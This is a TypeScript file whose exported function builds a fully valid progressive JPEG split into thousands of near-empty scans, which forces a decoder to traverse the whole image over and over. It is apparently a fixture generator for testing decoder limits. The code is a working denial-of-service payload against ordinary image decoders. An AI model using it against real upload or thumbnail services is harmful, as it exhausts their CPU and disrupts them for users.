/**
 * A grey progressive JPEG, legal to the last bit, that sends its coefficients one bit at a time: some 100 bytes
 * a scan, and each scan makes the decoder walk over the whole picture. 2,647 scans in 258 kB cost half a minute.
 */
export function scanBomb(side: number, scansPerCoefficient: number): Buffer {
  const components = [1, 2, 3];
  const oneCode = [1, ...Array<number>(15).fill(0)];
  const blocks = Math.ceil(side / 8) ** 2;
  const size = [side >> 8, side & 255];
  const parts = [
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, [0, ...Array<number>(64).fill(1)]),
    segment(0xc2, [8, ...size, ...size, 3, ...components.flatMap(id => [id, 0x11, 0])]),
    segment(0xc4, [0x00, ...oneCode, 0]),
    segment(0xc4, [0x10, ...oneCode, 0xe0]),
    segment(0xda, [3, ...components.flatMap(id => [id, 0]), 0, 0, 0]),
    entropyCoded('0'.repeat(blocks * components.length)),
  ];
  const nothingToAdd = entropyCoded(endOfBands(blocks));
  for (const id of components) {
    for (let coefficient = 1; coefficient < 64; coefficient++) {
      for (let bit = scansPerCoefficient - 1; bit >= 0; bit--) {
        const before = bit === scansPerCoefficient - 1 ? 0 : bit + 1;
        parts.push(segment(0xda, [1, id, 0, coefficient, coefficient, (before << 4) | bit]), nothingToAdd);
      }
    }
  }
  return Buffer.concat([...parts, Buffer.from([0xff, 0xd9])]);
}

function segment(marker: number, data: number[]): Buffer {
  const length = data.length + 2;
  return Buffer.from([0xff, marker, length >> 8, length & 255, ...data]);
}

/** `0` is the only code of the table, and means that the next 2¹⁴ to 2¹⁵ - 1 blocks have nothing. */
function endOfBands(blocks: number): string {
  let bits = '';
  for (let left = blocks; left > 0; ) {
    const more = Math.min(2 ** 14 - 1, Math.max(0, left - 2 ** 14));
    bits += `0${more.toString(2).padStart(14, '0')}`;
    left -= 2 ** 14 + more;
  }
  return bits;
}

function entropyCoded(bits: string): Buffer {
  const bytes: number[] = [];
  for (let at = 0; at < bits.length; at += 8) {
    const byte = Number.parseInt(bits.slice(at, at + 8).padEnd(8, '1'), 2);
    bytes.push(byte);
    if (byte === 0xff) bytes.push(0);
  }
  return Buffer.from(bytes);
}
